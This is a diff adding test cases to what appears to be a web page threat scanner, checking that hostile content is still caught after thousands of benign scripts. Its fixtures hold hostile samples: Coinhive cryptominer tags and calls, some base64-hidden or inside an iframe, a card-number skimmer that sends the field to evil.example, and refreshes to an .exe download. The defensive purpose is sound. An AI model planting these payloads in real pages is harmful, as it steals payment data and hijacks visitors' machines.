@@ -615,6 +615,62 @@ test.each([
   expect(assessment.threatLevel).not.toBe('BENIGN');
 });
 
+describe('code is read without a limit on its number:', () => {
+  const own = (count: number) =>
+    Array.from({ length: count }, (_, at) => `<script src="/js/${at}.js"></script>`).join('');
+  const miner = '<script src="https://coinhive.com/lib/a.js"></script>';
+  const handlers = (count: number) =>
+    Array.from({ length: count }, (_, at) => `<b onclick="show(${at});return false">x</b>`).join('');
+  const refreshes = (to: string) => `<meta http-equiv="refresh" content="3;url=${to}">`.repeat(25);
+  const shares = Array.from({ length: 90 }, (_, at) => `"${base64(`https://garden.example/roses/${at}/`)}"`);
+
+  test.each([
+    ['script URLs', own(2100), miner],
+    ['script elements', own(12_100), miner],
+    ['scripts', '<script>draw()</script>'.repeat(12_100), '<script>new CoinHive.Anonymous("k")</script>'],
+    ['event handlers', handlers(10_100), `<b onclick="new CoinHive.Anonymous('k')">y</b>`],
+    [
+      'event handlers before a script',
+      handlers(10_100),
+      '<input name="cardnumber" id="n"><script>pay.onclick=()=>fetch("https://evil.example/c?"+document.querySelector("#n").value)</script>',
+    ],
+    ['refreshes', refreshes('/next'), refreshes('https://evil.tk/x.exe'), true],
+    [
+      'encoded addresses',
+      `<script>share([${shares}])</script>`,
+      `<script>eval(atob("${base64(`document.write('<script src=//coinhive.com/a.js>')`)}"))</script>`,
+    ],
+  ])('%s', async (what, many, hostile, isInstead = false) => {
+    const benign = await verdictOn(page(`<p>Roses</p>${many}`));
+    expect(benign.assessment.threatLevel).toBe('BENIGN');
+    expect(benign.warnings.map(({ message }) => message)).toEqual(
+      what === 'script elements' || what === 'script URLs'
+        ? [expect.stringMatching(/limit of scripts to look up: \d+ were skipped/)]
+        : what.startsWith('event handlers')
+          ? [expect.stringContaining('scripts in the data flow')]
+          : [],
+    );
+    const twin = await verdictOn(page(`<p>Roses</p>${isInstead ? '' : many}${hostile}`));
+    expect(twin.assessment.threatLevel).not.toBe('BENIGN');
+    expect(twin.assessment.riskScore).toBeGreaterThanOrEqual(30);
+  });
+
+  test('scripts in the document of a frame', async () => {
+    const framed = (source: string) =>
+      page(`<p>Roses</p><iframe srcdoc='<script src="${source}"></script>'>`);
+    const { assessment } = await verdictOn(framed('https://coinhive.com/lib/a.js'));
+    expect(assessment.threatLevel).toBe('MALICIOUS');
+    expect((await verdictOn(framed('/js/a.js'))).assessment.threatLevel).toBe('BENIGN');
+  });
+
+  test('a host that is loaded once is looked up before more scripts of other hosts', async () => {
+    const html = `${own(2100)}<script src="http://192.0.2.7/a.js"></script>`;
+    const { assessment } = await verdictOn(page(html));
+    const network = assessment.layers?.find(({ name }) => name === 'network');
+    expect(network?.indicators).toContain('The page loads scripts from the IP address 192.0.2.7.');
+  });
+});
+
 describe('content over former limits', () => {
   const filler = '<p onclick="a()">x</p>'.repeat(250);
 
